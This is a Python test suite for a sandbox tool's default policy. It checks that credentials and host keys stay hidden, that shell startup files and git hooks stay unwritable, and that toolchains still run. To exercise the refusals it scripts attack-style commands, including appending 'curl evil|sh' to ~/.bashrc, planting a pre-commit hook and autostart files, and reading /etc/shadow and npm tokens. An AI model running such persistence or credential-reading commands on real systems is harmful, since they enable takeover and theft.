#!/usr/bin/env python3
"""The most specific rule decides (narrowing and widening `include default`),
and the default profile fits toolchains installed outside /usr while keeping
credentials hidden and persistence points unwritable. Every refusal is
checked on the host (bytes unchanged, marker absent) beside a positive
control in the same run."""
import os
import shutil
import stat
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lbtest import eq, litebox, run, skip, test, tmpdir  # noqa: E402


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)
    return path


def policy(text):
    return write(os.path.join(tmpdir(), "job.policy"), text)


def home_env(home):
    """HOME and TMPDIR of their own: a HOME under the default $TMPDIR would be
    readable through `allow read $TMPDIR/**` and prove nothing."""
    return dict(os.environ, HOME=home, TMPDIR=tmpdir())


def read(path):
    with open(path) as f:
        return f.read()


@test
def include_default_narrowed_to_out():
    d = tmpdir()
    os.mkdir(os.path.join(d, "out"))
    write(os.path.join(d, "src.c"), "int main;\n")
    pol = policy("include default\ndeny write $CWD/**\nallow write $CWD/out/**\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c",
                "echo built > out/a.o; echo evil >> src.c; echo new > g; cat src.c", cwd=d)
    eq(read(os.path.join(d, "out", "a.o")), "built\n", "out/ is writable (control)")
    eq(read(os.path.join(d, "src.c")), "int main;\n", "sources unchanged on the host")
    assert not os.path.exists(os.path.join(d, "g")), "no new file outside out/"
    assert "int main;" in p.stdout, "sources still readable: " + p.stderr
    assert f"denied write {os.path.realpath(d)}/src.c" in p.stderr, p.stderr
    assert f"refused by {pol}:2" in p.stderr, "the denial names the deciding rule: " + p.stderr
    # and the rule that would allow it (cli.md), as for what no rule granted
    src = f"{os.path.realpath(d)}/src.c"
    assert f"\u2014 allow with: allow write {src} (refused by {pol}:2)" in p.stderr, p.stderr


@test
def hidden_credential_reopened_by_an_exact_grant():
    home = tmpdir()
    marker = "npm-token-" + os.urandom(6).hex()
    write(os.path.join(home, ".npmrc"), f"//registry.npmjs.org/:_authToken={marker}\n")
    write(os.path.join(home, ".pypirc"), f"password = {marker}\n")
    d = tmpdir()
    env = home_env(home)
    p = litebox("run", "--", "cat", os.path.join(home, ".npmrc"), cwd=d, env=env)
    assert p.returncode != 0 and marker not in p.stdout, "default hides ~/.npmrc"
    assert "hid read" in p.stderr, p.stderr
    pol = policy("include default\nallow read $HOME/.npmrc\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c",
                f"cat {home}/.npmrc; cat {home}/.pypirc", cwd=d, env=env)
    assert marker in p.stdout, "the exact grant re-opens ~/.npmrc: " + p.stderr
    eq(p.stdout.count(marker), 1, "~/.pypirc stays hidden")


@test
def broad_etc_grant_never_reopens_shadow():
    try:
        shadow = read("/etc/shadow")
    except OSError:
        skip("/etc/shadow is not readable natively (not root)")
    secret = next((line for line in shadow.splitlines() if line.strip()), None)
    if not secret:
        skip("/etc/shadow is empty")
    pol = policy("include default\nallow read /etc/**\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c", "cat /etc/shadow; cat /etc/passwd",
                cwd=tmpdir())
    assert "root:" in p.stdout, "control: /etc/passwd is read " + p.stderr
    assert secret not in p.stdout, "shadow content leaked"
    assert "denied read /etc/shadow" in p.stderr and "refused by <builtin:default>:" in p.stderr, p.stderr


def fake_toolchain(root, name):
    """root/bin/NAME: a shell script that runs a copied ELF (cat) from
    root/libexec on a data file in root/lib, as toolchains run their own
    helpers and read their standard library."""
    write(os.path.join(root, "lib", "stdlib.txt"), f"stdlib of {name}\n")
    os.makedirs(os.path.join(root, "libexec"), exist_ok=True)
    shutil.copy2(shutil.which("cat"), os.path.join(root, "libexec", "helper"))
    return write(os.path.join(root, "bin", name),
                 f"#!/bin/sh\nexec {root}/libexec/helper {root}/lib/stdlib.txt\n", 0o755)


@test
def pyenv_tree_in_home_runs():
    home = tmpdir()
    env = home_env(home)
    version = os.path.join(home, ".pyenv", "versions", "9.9.9")
    fake_toolchain(version, "python9")
    shim = write(os.path.join(home, ".pyenv", "shims", "python9"),
                 f"#!/bin/sh\nexec {version}/bin/python9 \"$@\"\n", 0o755)
    p = litebox("run", "--", shim, cwd=tmpdir(), env=env)
    eq(p.returncode, 0, "pyenv shim and version run: " + p.stderr)
    eq(p.stdout, "stdlib of python9\n", "reads its standard library")
    # Control: the same tree elsewhere in $HOME is not granted.
    other = os.path.join(home, "not-a-manager")
    fake_toolchain(other, "tool")
    p = litebox("run", "--", os.path.join(other, "bin", "tool"), cwd=tmpdir(), env=env)
    assert p.returncode != 0 and "stdlib" not in p.stdout, "the rest of $HOME stays refused"


@test
def real_pyenv_python_runs():
    home = os.path.expanduser("~")
    shim = os.path.join(home, ".pyenv", "shims", "python3")
    if not os.path.exists(shim):
        skip("no pyenv under $HOME on this machine")
    d = tmpdir()
    # As from a fresh shell: this harness may itself run under a pyenv shim,
    # which exported its own working directory as PYENV_DIR.
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYENV_DIR")}
    env.update(TMPDIR=tmpdir(), PWD=d)
    p = litebox("run", "--", shim, "-c", "import json, os, ssl; print(json.dumps([1]))",
                cwd=d, env=env)
    eq(p.returncode, 0, "pyenv's python3 under the default profile: " + p.stderr[-1500:])
    eq(p.stdout, "[1]\n", "output")


@test
def toolchain_under_opt_runs():
    if os.geteuid() != 0:
        skip("creating /opt/lbtest-toolchain needs root")
    root = "/opt/lbtest-toolchain"
    shutil.rmtree(root, ignore_errors=True)
    try:
        tool = fake_toolchain(root, "tool")
        p = litebox("run", "--", tool, cwd=tmpdir())
        eq(p.returncode, 0, "/opt toolchain runs: " + p.stderr)
        eq(p.stdout, "stdlib of tool\n", "reads its own files")
        p = litebox("run", "--", "sh", "-c", f"echo x > {root}/lib/new", cwd=tmpdir())
        assert p.returncode != 0 and not os.path.exists(f"{root}/lib/new"), "/opt is read-only"
    finally:
        shutil.rmtree(root, ignore_errors=True)


@test
def startup_files_unwritable_from_home():
    home = tmpdir()
    env = home_env(home)
    rc = write(os.path.join(home, ".bashrc"), "# original\n")
    os.mkdir(os.path.join(home, "project"))
    p = litebox("run", "--", "sh", "-c",
                "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; "
                "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
                "echo evil > .gdbinit; echo evil > .envrc; mkdir -p .config/kitty; "
                "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
                "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
                cwd=home, env=env)
    eq(read(os.path.join(home, "project", "out")), "ok\n", "control: $CWD is writable")
    eq(read(rc), "# original\n", "~/.bashrc unchanged on the host")
    assert not os.path.exists(os.path.join(home, ".config", "autostart", "x.desktop"))
    for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py",
                 ".gdbinit", ".envrc", ".config/kitty"):
        assert not os.path.exists(os.path.join(home, name)), name + " written"
    assert f"denied write {os.path.realpath(home)}/.bashrc" in p.stderr, p.stderr


@test
def git_hooks_unwritable():
    d = tmpdir()
    os.makedirs(os.path.join(d, ".git", "hooks"))
    write(os.path.join(d, ".git", "HEAD"), "ref: refs/heads/main\n")
    p = litebox("run", "--", "sh", "-c",
                "echo ok > made; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", cwd=d)
    eq(read(os.path.join(d, "made")), "ok\n", "control: $CWD is writable")
    assert not os.path.exists(os.path.join(d, ".git", "hooks", "pre-commit")), "hook written"
    assert "denied write" in p.stderr and "pre-commit" in p.stderr, p.stderr


@test
def programs_built_in_tmpdir_run():
    t = tmpdir()
    d = tmpdir()
    env = dict(os.environ, TMPDIR=t)
    os.makedirs(os.path.join(t, "go-build1"))
    exe = os.path.join(t, "go-build1", "x.test")
    shutil.copy2(shutil.which("true"), exe)
    p = litebox("run", "--", "sh", "-c", f"{exe} && echo ran", cwd=d, env=env)
    eq(p.returncode, 0, "exec in $TMPDIR (go test): " + p.stderr)
    eq(p.stdout, "ran\n", "output")
    assert os.stat(exe).st_mode & stat.S_IXUSR


@test
def host_keys_under_etc_stay_unreadable():
    # root CI containers: file modes do not stop root, the profile must
    for path in ("/etc/ssl/private/host.key", "/etc/wireguard/wg0.conf", "/etc/krb5.keytab",
                 "/etc/NetworkManager/system-connections/wifi.nmconnection",
                 "/etc/kubernetes/admin.conf", "/etc/letsencrypt/live/x/privkey.pem"):
        p = litebox("policy", "show", "default", "--explain", path)
        eq(p.returncode, 0, p.stderr)
        read_line = [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0]
        assert "deny" in read_line, path + ": " + p.stdout
    p = litebox("policy", "show", "default", "--explain", "/etc/ssl/certs/ca-certificates.crt")
    assert "allow" in [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0], \
        "control: public certificates stay readable: " + p.stdout


if __name__ == "__main__":
    run()
